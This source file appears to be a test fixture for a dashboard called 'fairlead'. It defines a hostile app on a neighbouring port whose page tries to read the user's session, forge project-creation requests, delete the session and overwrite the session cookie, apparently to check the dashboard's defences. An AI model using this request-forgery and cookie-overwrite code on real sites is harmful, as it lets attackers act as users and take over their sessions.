/** An app on another port of the dashboard's host that tries to read, use, forge and end the user's session. */
export const hostileApp = {
  'package.json': JSON.stringify({ name: 'hostile', scripts: { start: 'node server.js' } }),
  'server.js': `const page = (sent) => \`<p id="seen"></p><p id="state"></p><script>
const api = new URLSearchParams(location.search).get('api')
const forge = (path, method, type, body) =>
  fetch(api + path, { method, mode: 'no-cors', credentials: 'include', headers: { 'content-type': type }, body }).catch(() => {})
const attack = async () => {
  const answer = await fetch(api + '/session', { credentials: 'include' }).then((r) => r.text(), () => 'blocked')
  await forge('/projects', 'POST', 'text/plain', '{"name":"forged"}')
  await forge('/projects', 'POST', 'application/x-www-form-urlencoded', 'name=forged')
  await fetch(api + '/projects', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"name":"forged"}' }).catch(() => {})
  await fetch(api + '/session', { method: 'DELETE', credentials: 'include' }).catch(() => {})
  document.cookie = 'fairlead_session=taken; path=/'
  seen.textContent = JSON.stringify({ sent: \${JSON.stringify(sent)}, read: document.cookie, answer })
  state.textContent = 'done'
}
attack()
</script>\`
require('node:http').createServer((request, response) => {
  response.setHeader('content-type', 'text/html')
  response.setHeader('set-cookie', 'fairlead_session=taken; path=/')
  response.end(page(request.headers.cookie ?? null))
}).listen(process.env.PORT)
`,
}
